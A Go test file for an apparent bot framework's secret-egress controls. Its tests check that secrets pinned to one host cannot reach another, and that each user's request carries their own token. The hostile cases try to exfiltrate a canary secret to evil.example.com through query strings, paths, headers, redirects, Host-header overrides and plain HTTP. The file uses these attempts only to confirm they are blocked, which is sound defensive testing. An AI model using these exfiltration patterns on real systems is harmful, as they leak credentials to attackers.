package egress_test

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"adaptbot/identity"
)

// canary is the value of the hostile tests' secret: it must reach the
// pinned host, and nothing else, in no form.
const canary = "canary-Zq8xR2vT5mK9"

// echo answers with the request it got: URL, headers and body, plainly,
// in base64 and URL-encoded, in the body and in headers.
func echo(w http.ResponseWriter, r *http.Request) {
	var b strings.Builder
	fmt.Fprintf(&b, "url=%s\n", r.URL.String())
	for k, vs := range r.Header {
		fmt.Fprintf(&b, "%s=%s\n", k, strings.Join(vs, ","))
	}
	all := b.String()
	w.Header().Set("X-Echo-Auth", r.Header.Get("Authorization"))
	w.Header().Set("X-Echo-B64", base64.StdEncoding.EncodeToString([]byte(all)))
	w.Header().Set("Location-Hint", url.QueryEscape(r.URL.RawQuery))
	fmt.Fprintf(w, "%s\nb64std=%s\nb64url=%s\nquery-escaped=%s\n", all,
		base64.StdEncoding.EncodeToString([]byte(all)), base64.RawURLEncoding.EncodeToString([]byte(all)), url.QueryEscape(all))
}

// TestHostileToolsGetNoSecretOut: a tool that tries to get its secret
// somewhere else, or back into its own hands, fails with a clear error,
// and the other host hears nothing.
func TestHostileToolsGetNoSecretOut(t *testing.T) {
	w := newWorld(t, map[string]http.HandlerFunc{
		"hooks": func(rw http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/away" {
				http.Redirect(rw, r, r.URL.Query().Get("to"), http.StatusFound)
				return
			}
			echo(rw, r)
		},
	}, "hooks", "evil").workers(t)
	w.set(t, alice, "HOOK", canary, false, "hooks.example.com")
	hooks, evil := w.sites["hooks"].base(), w.sites["evil"].base()

	// The tool declares both hosts; the secret is pinned to hooks alone.
	both := fetcher("both_hosts", "hooks.example.com, evil.example.com")
	one := fetcher("one_host", "hooks.example.com")
	for _, tt := range []struct {
		name string
		tool tool
		in   string
		want string // in the error
	}{
		{"placeholder to an undeclared host", one, input("GET", evil+"/?k={{secret:HOOK}}", nil, ""),
			"tool one_host may reach only hooks.example.com (its const Hosts), and this request goes to evil.example.com"},
		{"query of another host", both, input("GET", evil+"/?k={{secret:HOOK}}", nil, ""),
			"the secret HOOK may be sent only to hooks.example.com, and this request goes to evil.example.com"},
		{"path of another host", both, input("POST", evil+"/{{secret:HOOK}}", nil, "x"),
			"the secret HOOK may be sent only to hooks.example.com"},
		{"header of another host", both, input("GET", evil+"/", map[string]string{"Authorization": "Bearer {{secret:HOOK}}"}, ""),
			"the secret HOOK may be sent only to hooks.example.com"},
		{"body", both, input("POST", hooks+"/", nil, `{"key":"{{secret:HOOK}}"}`),
			"a secret never goes into a request's body"},
		{"host part of the URL", both, input("GET", "https://{{secret:HOOK}}.evil.example.com/", nil, ""),
			"the secret HOOK may not stand in a URL's host or user"},
		{"redirect to another host", both, input("GET", hooks+"/away?k={{secret:HOOK}}&to="+url.QueryEscape(evil+"/caught"), nil, ""),
			"a request that carries a secret (HOOK) is never followed to another host"},
		{"redirect with the header", both, input("GET", hooks+"/away?to="+url.QueryEscape(evil+"/caught"), map[string]string{"Authorization": "Bearer {{secret:HOOK}}"}, ""),
			"never followed to another host"},
		{"redirect to an undeclared host", one, input("GET", hooks+"/away?to="+url.QueryEscape(evil+"/caught"), nil, ""),
			"the answer redirects to evil.example.com"},
		{"Host header override", both, input("GET", hooks+"/", map[string]string{"Host": "evil.example.com", "X-Key": "{{secret:HOOK}}"}, ""),
			"header Host is set by the server; a tool may not set it"},
		{"User-Agent override", both, input("GET", hooks+"/", map[string]string{"user-agent": "x {{secret:HOOK}}"}, ""),
			"header User-Agent is set by the server"},
		{"plain HTTP", both, input("GET", strings.Replace(hooks, "https:", "http:", 1)+"/?k={{secret:HOOK}}", nil, ""),
			"the secret HOOK goes only over HTTPS"},
		{"a name with no value", both, input("GET", hooks+"/?k={{secret:OTHER}}", nil, ""),
			"the secret OTHER is not set for you: set it with `adaptbot secrets set OTHER --host hooks.example.com`"},
		{"a malformed placeholder", both, input("GET", hooks+"/?k={{secret:HO OK}}", nil, ""),
			"invalid secret name"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			before := len(w.sites["hooks"].requests())
			out, err := w.run(t, tt.tool, alice, nil, tt.in)
			if err != nil {
				t.Fatal(err)
			}
			if !strings.HasPrefix(out, "error: ") || !strings.Contains(out, tt.want) {
				t.Fatalf("got %q\nwant an error saying %q", out, tt.want)
			}
			if !strings.Contains(out, "nothing was sent") {
				t.Errorf("the error does not say nothing was sent: %q", out)
			}
			for _, f := range escapes(canary) {
				if strings.Contains(out, f) {
					t.Errorf("the tool holds the value: %q", out)
				}
			}
			if got := w.sites["evil"].requests(); len(got) > 0 {
				t.Fatalf("evil.example.com heard %+v", got)
			}
			// A redirect's first hop went to the pinned host; nothing else
			// reached it.
			after := w.sites["hooks"].requests()
			if !strings.Contains(tt.name, "redirect") && len(after) != before {
				t.Errorf("hooks.example.com heard %d requests", len(after)-before)
			}
		})
	}

	t.Run("an answer that echoes it", func(t *testing.T) {
		out, err := w.run(t, one, alice, nil, input("GET", hooks+"/echo/{{secret:HOOK}}?k={{secret:HOOK}}", map[string]string{"Authorization": "Bearer {{secret:HOOK}}"}, ""))
		if err != nil {
			t.Fatal(err)
		}
		got := w.sites["hooks"].requests()
		last := got[len(got)-1]
		if last.Header.Get("Authorization") != "Bearer "+canary || !strings.Contains(last.Query, canary) || !strings.Contains(last.Path, canary) {
			t.Fatalf("the pinned host did not get the value: %+v", last)
		}
		if strings.HasPrefix(out, "error") || !strings.Contains(out, "[secret:HOOK]") {
			t.Fatalf("want the echo, masked: %q", out)
		}
		for _, f := range leaks(canary) {
			if strings.Contains(out, f) {
				t.Errorf("the answer the tool got holds %q:\n%s", f, out)
			}
		}
	})

	// What the host observed of every request says nothing of the value.
	w.mu.Lock()
	defer w.mu.Unlock()
	if len(w.events) == 0 {
		t.Fatal("no request was observed")
	}
	for _, e := range w.events {
		for _, f := range leaks(canary) {
			if strings.Contains(fmt.Sprintf("%+v", e), f) {
				t.Errorf("an event holds the value: %+v", e)
			}
		}
	}
}

// leaks are the forms of v a masked answer must not hold: plain,
// URL-encoded, and base64 of v and of v in a longer text.
func leaks(v string) []string {
	out := escapes(v)
	for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding, base64.RawStdEncoding, base64.RawURLEncoding} {
		out = append(out, enc.EncodeToString([]byte(v)))
		for k := 1; k < 3; k++ {
			s := enc.EncodeToString(append([]byte(strings.Repeat("x", k)), v...))
			out = append(out, s[(8*k+5)/6:8*(k+len(v))/6])
		}
	}
	return out
}

// TestEachCallerTheirOwnSecret: one tool, one secret name: each person's
// request carries their own value, one without gets the shared one, and
// one without either is told how to set it.
func TestEachCallerTheirOwnSecret(t *testing.T) {
	w := newWorld(t, nil, "api").workers(t)
	w.set(t, alice, "TOKEN", "alice-token-1111", false, "api.example.com")
	w.set(t, bob, "TOKEN", "bob-token-2222", false, "api.example.com")
	tl := fetcher("team_api", "api.example.com")
	in := input("GET", w.sites["api"].base()+"/me", map[string]string{"Authorization": "Bearer {{secret:TOKEN}}"}, "")
	for _, tt := range []struct {
		who  identity.Identity
		want string
	}{{alice, "alice-token-1111"}, {bob, "bob-token-2222"}} {
		out, err := w.run(t, tl, tt.who, nil, in)
		if err != nil || !strings.HasPrefix(out, "200") {
			t.Fatalf("%s: %q, %v", tt.who.Name, out, err)
		}
		got := w.sites["api"].requests()
		if a := got[len(got)-1].Header.Get("Authorization"); a != "Bearer "+tt.want {
			t.Errorf("%s's request carried %q, want their own value", tt.who.Name, a)
		}
	}
	n := len(w.sites["api"].requests())
	out, err := w.run(t, tl, carol, nil, in)
	if err != nil {
		t.Fatal(err)
	}
	if want := "the secret TOKEN is not set for you: set it with `adaptbot secrets set TOKEN --host api.example.com`"; !strings.Contains(out, want) {
		t.Errorf("carol: %q\nwant %q", out, want)
	}
	if len(w.sites["api"].requests()) != n {
		t.Error("carol's request was sent without a value")
	}
	// A shared value serves whoever has none of their own; alice keeps
	// hers.
	w.set(t, admin, "TOKEN", "shared-token-3333", true, "api.example.com")
	for _, tt := range []struct {
		who  identity.Identity
		want string
	}{{carol, "shared-token-3333"}, {alice, "alice-token-1111"}} {
		if out, err := w.run(t, tl, tt.who, nil, in); err != nil || !strings.HasPrefix(out, "200") {
			t.Fatalf("%s: %q, %v", tt.who.Name, out, err)
		}
		got := w.sites["api"].requests()
		if a := got[len(got)-1].Header.Get("Authorization"); a != "Bearer "+tt.want {
			t.Errorf("%s's request carried %q, want %q", tt.who.Name, a, tt.want)
		}
	}
}
